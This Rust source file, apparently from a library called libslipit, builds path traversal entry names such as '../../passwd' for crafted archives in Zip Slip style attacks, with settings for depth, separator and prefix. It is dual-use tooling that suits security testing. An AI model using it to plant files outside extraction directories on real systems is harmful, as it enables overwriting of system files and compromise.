//! Construction of path traversal entry names.

/// Builds archive names that climb out of the extraction directory.
///
/// ```
/// use libslipit::TraversalPayload;
///
/// let payload = TraversalPayload::new(2);
/// assert_eq!(payload.names("passwd"), ["../../passwd"]);
///
/// let payload = TraversalPayload::new(3).increment(true).separator("\\");
/// assert_eq!(payload.names("a"), ["..\\a", "..\\..\\a", "..\\..\\..\\a"]);
/// ```
#[derive(Clone, Eq, PartialEq, Hash, Debug)]
pub struct TraversalPayload {
    depth: usize,
    separator: String,
    prefix: String,
    increment: bool,
}

impl TraversalPayload {
    pub const DEFAULT_DEPTH: usize = 6;

    #[inline]
    pub fn new(depth: usize) -> Self {
        Self {
            depth,
            separator: "/".into(),
            prefix: String::new(),
            increment: false,
        }
    }

    #[inline]
    pub fn separator(mut self, separator: impl Into<String>) -> Self {
        self.separator = separator.into();
        self
    }

    /// Sets a string placed before the traversal sequence, e.g. `"uploads/"`.
    #[inline]
    pub fn prefix(mut self, prefix: impl Into<String>) -> Self {
        self.prefix = prefix.into();
        self
    }

    /// Emits one name per depth from 1 up to the configured depth.
    #[inline]
    pub fn increment(mut self, increment: bool) -> Self {
        self.increment = increment;
        self
    }

    /// The traversal step, `..` followed by the separator.
    #[inline]
    pub fn marker(&self) -> String {
        format!("..{}", self.separator)
    }

    /// Returns the archive names for `file_name`, shallowest first.
    pub fn names(&self, file_name: &str) -> Vec<String> {
        if self.increment && self.depth > 0 {
            (1..=self.depth).map(|d| self.name_at(d, file_name)).collect()
        } else {
            vec![self.name_at(self.depth, file_name)]
        }
    }

    #[inline]
    fn name_at(&self, depth: usize, file_name: &str) -> String {
        format!("{}{}{}", self.prefix, self.marker().repeat(depth), file_name)
    }
}

impl Default for TraversalPayload {
    #[inline]
    fn default() -> Self {
        Self::new(Self::DEFAULT_DEPTH)
    }
}
